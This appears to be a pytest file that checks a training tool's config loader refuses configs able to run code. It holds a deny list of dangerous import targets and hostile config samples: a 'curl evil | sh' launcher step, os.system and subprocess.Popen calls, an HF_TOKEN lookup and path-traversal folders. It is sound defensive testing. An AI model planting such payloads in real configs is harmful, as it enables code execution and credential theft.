"""A config from a stranger must not run code: each attack fails with one clear line."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest
import torch
from omegaconf import OmegaConf

from taskdepth import cli, config, trust
from taskdepth.errors import ConfigError

FORBIDDEN = [
    "os.system",
    "subprocess.Popen",
    "builtins.eval",
    "eval",
    "",
    "torch.load",
    "torch.nn.Linear",
    "torch.optim.lr_scheduler.LambdaLR",
    "pickle.loads",
    "hydra.utils.call",
    "functools.partial",
    # through an allowed module into another one
    "peft.config.os.system",
    "peft.config.json.loads",
    "taskdepth.run_directory.subprocess.run",
    "taskdepth.tasks.alpaca.json.loads",
    "taskdepth.tasks.alpaca.Path",
    # allowed modules, but no settings
    "transformers.AutoModelForCausalLM",
    "transformers.pipeline",
    "transformers.AutoModelForCausalLM.from_pretrained",
    "peft.PeftModel",
    "peft.LoraConfig.from_pretrained",
    "lightning.pytorch.Trainer",
    "torch.optim.Adam.__init__.__globals__",
    "taskdepth.config.instantiate",
    "taskdepth.cli.train",
    "..os.system",
    "peft.LoraConfig; import os",
]


@pytest.mark.parametrize("target", FORBIDDEN)
@pytest.mark.parametrize("depth", range(2))
def test_a_target_that_could_do_anything_is_refused(target: str, depth: int) -> None:
    node: Any = {"_target_": target}
    if depth:
        node = {"_target_": "peft.LoraConfig", "eva_config": [{"x": node}]}
    with pytest.raises(ConfigError, match=r"is not allowed in a config|cannot be found") as caught:
        config.instantiate(node)
    assert len(str(caught.value).splitlines()) == 1


@pytest.mark.parametrize(
    "hidden",
    [
        '${oc.create:{"_target_": os.system, command: "touch hacked"}}',
        "${oc.env:HF_TOKEN}",
    ],
)
def test_what_would_be_resolved_later_is_refused(hidden: str) -> None:
    with pytest.raises(ConfigError, match="is not resolved"):
        config.instantiate({"_target_": "peft.LoraConfig", "target_modules": [hidden]})
    with pytest.raises(ConfigError, match="is not allowed"):
        config.instantiate({"_target_": hidden})


def test_nothing_is_imported_before_it_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "stranger.py").write_text("raise SystemExit('imported')\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(ConfigError, match="TASKDEPTH_ALLOW_TARGETS"):
        trust.locate("stranger.Thing")
    assert "stranger" not in sys.modules


def test_modules_of_ones_own_are_let_in_by_the_shell_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "my_own.py").write_text("import os\nclass Thing:\n    size = 3\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setenv(trust.VARIABLE, "another, my_own")
    assert config.instantiate({"_target_": "my_own.Thing"}).size == 3
    with pytest.raises(ConfigError, match="not allowed"):
        trust.locate("my_owner.Thing")


@pytest.mark.parametrize(
    "target", ["torch.optim.AdamW", "torch.optim.SGD", "transformers.GPT2Config", "peft.IA3Config"]
)
def test_what_swap_points_are_for_is_allowed(target: str) -> None:
    assert isinstance(trust.locate(target), type)


HYDRA = [
    ({"callbacks": {"x": {"_target_": "os.system"}}}, "hydra.callbacks could run any code"),
    ({"job": {"env_set": {"PATH": "/evil"}}}, "hydra.job.env_set could run any code"),
    ({"launcher": {"setup": ["curl evil | sh"]}}, "hydra.launcher.setup could run any code"),
    ({"sweeper": {"sampler": {"_target_": "os.system"}}}, "_target_=os.system is not allowed"),
    ({"sweeper": {"custom_search_space": "os.system"}}, "hydra.sweeper.custom_search_space"),
    ({"job_logging": {"handlers": {"h": {"()": "os.system"}}}}, "names os.system"),
    ({"hydra_logging": {"handlers": {"h": {"class": "logging.os.x"}}}}, "names logging.os.x"),
    ({"job_logging": {"handlers": {"h": {"stream": "ext://stranger.x"}}}}, "ext://stranger.x"),
    ({"job_logging": {"f": [{"class": "logging.FileHandler"}]}}, "write anywhere"),
]


@pytest.mark.parametrize(("section", "message"), HYDRA)
def test_hydras_own_section_runs_nothing(section: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError, match=message.replace(".", r"\.")):
        trust.check_hydra(OmegaConf.create(section))


def test_hydras_section_is_open_to_who_starts_the_command(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(trust.VARIABLE, "hydra.launcher")
    trust.check_hydra(OmegaConf.create({"launcher": {"setup": ["module load cuda"]}}))
    with pytest.raises(ConfigError):
        trust.check_hydra(OmegaConf.create({"job": {"env_set": {"A": "b"}}}))


STRANGERS = {
    "target": "model:\n  architecture:\n    _target_: os.system\n    command: touch hacked\n",
    "optimizer": "optimizer:\n  _target_: os.system\n",
    "callback": (
        "hydra:\n  callbacks:\n    x:\n      _target_: subprocess.Popen\n      args: [touch, hacked]\n"
    ),
    "logging": (
        "hydra:\n  job_logging:\n    version: 1\n    handlers:\n      h:\n"
        "        (): subprocess.Popen\n        args: [touch, hacked]\n"
    ),
    "secret": "model:\n  name: ${oc.env:HF_TOKEN}\n",
    "name": "name: ../../elsewhere\n",
    "dirpath": "callbacks:\n  checkpoint:\n    dirpath: /elsewhere\n",
    "remote": "model:\n  path: somewhere\n  trust_remote_code: true\n",
}
SAYS = {
    "target": "_target_=os.system is not allowed",
    "optimizer": "_target_=os.system is not allowed",
    "callback": "hydra.callbacks could run any code",
    "logging": "hydra.job_logging names subprocess.Popen",
    "secret": "holds the value of HF_TOKEN",
    "name": "leaves the folder of outputs",
    "dirpath": "lies outside the run folder",
    "remote": "does not name the model",
}


@pytest.mark.parametrize("attack", STRANGERS)
def test_a_strangers_experiment_ends_in_one_line(
    attack: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    secret = "hf_" + "abcDEF123" * 4
    place, stranger = tmp_path / "place", tmp_path / "stranger" / "experiment"
    place.mkdir()
    stranger.mkdir(parents=True)
    (stranger / "theirs.yaml").write_text(f"# @package _global_\n{STRANGERS[attack]}")
    monkeypatch.chdir(place)
    monkeypatch.setenv("TASKDEPTH_ROOT", str(place))
    monkeypatch.setenv("HF_TOKEN", secret)
    monkeypatch.delenv("HYDRA_FULL_ERROR", raising=False)
    options = ["experiment=theirs", "logger=none", "tasks=[demo_arithmetic]", "evaluation=none"]
    monkeypatch.setattr(sys, "argv", ["train.py", f"--config-dir={stranger.parent}", *options])
    with pytest.raises(SystemExit):
        cli.train()
    shown = capfd.readouterr()
    lines = [line for line in shown.err.splitlines() if line.startswith("error: ")]
    assert len(lines) == 1
    assert SAYS[attack] in lines[0]
    assert secret not in shown.err + shown.out
    assert not (place / "hacked").exists()
    assert not any(secret.encode() in p.read_bytes() for p in place.rglob("*") if p.is_file())


def test_the_optimizer_is_one_of_torch() -> None:
    assert trust.locate("torch.optim.AdamW") is torch.optim.AdamW
